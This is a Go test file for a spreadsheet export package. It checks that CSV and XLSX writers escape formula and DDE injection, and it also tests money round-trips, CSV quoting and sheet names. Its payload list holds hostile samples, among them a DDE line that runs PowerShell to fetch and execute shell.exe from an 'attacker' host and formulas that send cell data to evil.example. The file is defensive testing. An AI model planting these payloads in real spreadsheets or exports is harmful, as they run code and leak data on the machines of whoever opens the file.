package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"partnerdesk/data/sheet"
	"partnerdesk/engine"
)

// injectionPayloads are formula and DDE injections collected from OWASP's
// CSV injection page and public payload lists.
var injectionPayloads = []string{
	`=cmd|' /C calc'!A0`,
	`=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0`,
	`+1+1`,
	`-2+3`,
	`@SUM(A1:A2)`,
	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	`=1+1`,
	`=DDE("cmd";"/C calc";"!A0")`,
	`DDE("cmd";"/C calc";"!A0")A0`, // harmless: starts with a letter, left as is
	`@cmd|'/C calc'!A0`,
	`+cmd|'/C calc'!A0`,
	`-cmd|'/C calc'!A0`,
	`=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")`,
	`=WEBSERVICE("http://evil.example/")`,
	`=2+5+cmd|' /C calc'!A0`,
	`=rundll32|'URL.dll,OpenURL calc.exe'!A`,
	`   =1+1`,  // spaces before the formula
	"＝1+1",     // full-width equals
	"＋1",       // full-width plus
	"－1",       // full-width minus
	"＠SUM(A1)", // full-width at
	`=@SUM(1)`,
	`-1`, // a negative number typed as text
	`=0x41`,
	`=IF(1=1,"a","b")`,
}

func TestInjectionPayloadsAreEscaped(t *testing.T) {
	header := []string{"name", "=evil header"}
	rows := make([][]sheet.Cell, len(injectionPayloads))
	for i, p := range injectionPayloads {
		rows[i] = []sheet.Cell{sheet.TextCell(p), sheet.MoneyCell(decimal.New(-1250, -2), 2)}
	}

	t.Run("csv", func(t *testing.T) {
		var buf bytes.Buffer
		if err := sheet.WriteCSV(&buf, header, rows, sheet.CSVOptions{}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if recs[0][1] != "'=evil header" {
			t.Errorf("header cell %q is not escaped", recs[0][1])
		}
		for i, p := range injectionPayloads {
			got := recs[i+1][0]
			if sheet.NeedsEscape(p) != strings.HasPrefix(got, "'") {
				t.Errorf("payload %q written as %q", p, got)
			}
			if sheet.NeedsEscape(got) {
				t.Errorf("payload %q reaches the cell unprefixed as %q", p, got)
			}
			if sheet.UnescapeText(got) != p {
				t.Errorf("UnescapeText(%q) = %q, want %q", got, sheet.UnescapeText(got), p)
			}
			// Money is a number, not text: its minus sign is not escaped.
			if recs[i+1][1] != "-12.50" {
				t.Errorf("money cell = %q, want -12.50", recs[i+1][1])
			}
		}
	})

	t.Run("xlsx", func(t *testing.T) {
		var buf bytes.Buffer
		if err := sheet.WriteXLSX(&buf, "Lines", header, rows); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		for i, p := range injectionPayloads {
			ref, _ := excelize.CoordinatesToCellName(1, i+2)
			formula, err := f.GetCellFormula("Lines", ref)
			if err != nil || formula != "" {
				t.Errorf("payload %q: cell %s has formula %q (%v)", p, ref, formula, err)
			}
			typ, err := f.GetCellType("Lines", ref)
			if err != nil || typ != excelize.CellTypeInlineString {
				t.Errorf("payload %q: cell %s type %v (%v), want an inline string", p, ref, typ, err)
			}
			got, _ := f.GetCellValue("Lines", ref)
			if sheet.NeedsEscape(got) {
				t.Errorf("payload %q reaches the cell unprefixed as %q", p, got)
			}
			if sheet.UnescapeText(got) != p {
				t.Errorf("payload %q read back as %q", p, got)
			}
		}
	})
	if len(injectionPayloads) < 20 {
		t.Errorf("only %d payloads, want at least 20", len(injectionPayloads))
	}
}

// rewardLine is a reward line as an export writes it.
type rewardLine struct {
	payee  string
	amount decimal.Decimal
	basis  decimal.Decimal
	day    engine.Date
}

func exportRows(lines []rewardLine, places int32) [][]sheet.Cell {
	rows := make([][]sheet.Cell, len(lines))
	for i, l := range lines {
		rows[i] = []sheet.Cell{sheet.TextCell(l.payee), sheet.MoneyCell(l.amount, places), sheet.MoneyCell(l.basis, places), sheet.DateCell(l.day), sheet.IntCell(int64(i + 1))}
	}
	return rows
}

func TestMoneyRoundTrip(t *testing.T) {
	eur := engine.NewCurrency("EUR")
	amounts := []string{"5125.03", "-12.35", "0.01", "0.10", "999999999999.99", "-0.05", "1234567.89", "0", "100000.00", "33.33"}
	var lines []rewardLine
	for i, a := range amounts {
		d := decimal.RequireFromString(a)
		lines = append(lines, rewardLine{
			payee:  []string{"Acme Srl", "-Beta BV", "Ünïcødé 株式会社", "=Gamma"}[i%4],
			amount: d,
			basis:  d.Mul(decimal.NewFromInt(20)),
			day:    engine.MustDate("2026-07-31").AddDays(i),
		})
	}
	header := []string{"payee", "amount", "basis", "date", "n"}
	check := func(t *testing.T, tab *sheet.Table, decimalComma bool) {
		t.Helper()
		if len(tab.Rows) != len(lines) {
			t.Fatalf("read %d rows, want %d", len(tab.Rows), len(lines))
		}
		for i, r := range tab.Rows {
			for col, want := range []decimal.Decimal{lines[i].amount, lines[i].basis} {
				got, err := sheet.ParseAmountIn(r.Cell(1+col), decimalComma)
				if err != nil {
					t.Fatalf("row %d: %v", i, err)
				}
				if !eur.Round(got).Equal(want) {
					t.Errorf("row %d col %d: read %s, wrote %s", i, col, got, want)
				}
			}
			if got := sheet.UnescapeText(r.Cell(0)); got != lines[i].payee {
				t.Errorf("row %d payee %q, want %q", i, got, lines[i].payee)
			}
			if d, err := sheet.ParseDate(r.Cell(3), sheet.DMY); err != nil || d != lines[i].day {
				t.Errorf("row %d date %q -> %s, want %s", i, r.Cell(3), d, lines[i].day)
			}
		}
	}
	for name, opt := range map[string]sheet.CSVOptions{"csv": {}, "csv semicolon decimal comma": {Comma: ';', DecimalComma: true}} {
		t.Run(name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := sheet.WriteCSV(&buf, header, exportRows(lines, 2), opt); err != nil {
				t.Fatal(err)
			}
			tab, err := sheet.Read(&buf, "lines.csv")
			if err != nil {
				t.Fatal(err)
			}
			check(t, tab, opt.DecimalComma)
		})
	}
	t.Run("xlsx", func(t *testing.T) {
		var buf bytes.Buffer
		if err := sheet.WriteXLSX(&buf, "2026-07", header, exportRows(lines, 2)); err != nil {
			t.Fatal(err)
		}
		raw := buf.Bytes()
		tab, err := sheet.Read(bytes.NewReader(raw), "lines.xlsx")
		if err != nil {
			t.Fatal(err)
		}
		check(t, tab, false)
		// Money cells are numbers with two decimals shown, dates real dates.
		f, err := excelize.OpenReader(bytes.NewReader(raw))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if typ, _ := f.GetCellType("2026-07", "B2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
			t.Errorf("money cell type %v, want a number", typ)
		}
		if v, _ := f.GetCellValue("2026-07", "B3"); v != "-12.35" {
			t.Errorf("formatted money = %q, want -12.35", v)
		}
		if v, _ := f.GetCellValue("2026-07", "B5"); v != "0.10" {
			t.Errorf("formatted money = %q, want 0.10 (two decimals shown)", v)
		}
		if v, _ := f.GetCellValue("2026-07", "D2"); v != "2026-07-31" {
			t.Errorf("formatted date = %q, want 2026-07-31", v)
		}
		if v, _ := f.GetCellValue("2026-07", "B6"); v != "999,999,999,999.99" {
			t.Errorf("formatted large money = %q, want 999,999,999,999.99", v)
		}
	})
}

func TestWriteCSVQuoting(t *testing.T) {
	var buf bytes.Buffer
	rows := [][]sheet.Cell{{sheet.TextCell("a;b"), sheet.TextCell("say \"hi\"\nbye"), sheet.MoneyCell(decimal.RequireFromString("1234.5"), 2), sheet.DateCell(0)}}
	if err := sheet.WriteCSV(&buf, []string{"x", "y", "z", "d"}, rows, sheet.CSVOptions{Comma: ';', DecimalComma: true}); err != nil {
		t.Fatal(err)
	}
	want := "\ufeffx;y;z;d\r\n\"a;b\";\"say \"\"hi\"\"\nbye\";1234,50;\r\n"
	if got := buf.String(); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestWriteXLSXProgressAndSheetName(t *testing.T) {
	rows := make([][]sheet.Cell, 10000)
	for i := range rows {
		rows[i] = []sheet.Cell{sheet.IntCell(int64(i)), sheet.NumberCell(decimal.New(int64(i), -3))}
	}
	var buf bytes.Buffer
	last := -1
	err := sheet.WriteXLSXProgress(&buf, "Fund: ledger [2026/Q3]*?", []string{"n", "rate"}, rows, func(done, total int) { last = done })
	if err != nil {
		t.Fatal(err)
	}
	if last != len(rows) {
		t.Errorf("last progress %d, want %d", last, len(rows))
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	// Excel forbids []:*?/\ in sheet names.
	if got := f.GetSheetName(0); got != "Fund_ ledger _2026_Q3___" {
		t.Errorf("sheet name %q", got)
	}
	if v, _ := f.GetCellValue(f.GetSheetName(0), "B10001"); v != "9.999" {
		t.Errorf("B10001 = %q, want 9.999", v)
	}
}

func benchRows(n int) [][]sheet.Cell {
	rows := make([][]sheet.Cell, n)
	for i := range rows {
		amt := decimal.New(int64(i*37%1000000), -2)
		rows[i] = []sheet.Cell{
			sheet.IntCell(int64(i)), sheet.TextCell("2026-07"), sheet.TextCell("Volume rebate"), sheet.TextCell("Partner Srl"),
			sheet.MoneyCell(amt, 2), sheet.MoneyCell(amt.Mul(decimal.NewFromInt(20)), 2), sheet.TextCell("EUR"),
			sheet.DateCell(engine.MustDate("2026-07-31")), sheet.TextCell("approved"), sheet.TextCell("Volume rebate: 102,500.50 EUR in 2026-Q3 reaches band"),
		}
	}
	return rows
}

// BenchmarkWriteXLSX100k writes 100,000 rows of 10 cells, as a period's reward lines.
func BenchmarkWriteXLSX100k(b *testing.B) {
	rows := benchRows(100000)
	header := []string{"id", "period", "rule", "payee", "amount", "basis", "currency", "date", "status", "explanation"}
	b.ResetTimer()
	for range b.N {
		var buf bytes.Buffer
		if err := sheet.WriteXLSX(&buf, "lines", header, rows); err != nil {
			b.Fatal(err)
		}
		b.SetBytes(int64(buf.Len()))
	}
}

// BenchmarkWriteCSV100k is BenchmarkWriteXLSX100k as CSV.
func BenchmarkWriteCSV100k(b *testing.B) {
	rows := benchRows(100000)
	header := []string{"id", "period", "rule", "payee", "amount", "basis", "currency", "date", "status", "explanation"}
	b.ResetTimer()
	for range b.N {
		var buf bytes.Buffer
		if err := sheet.WriteCSV(&buf, header, rows, sheet.CSVOptions{}); err != nil {
			b.Fatal(err)
		}
		b.SetBytes(int64(buf.Len()))
	}
}
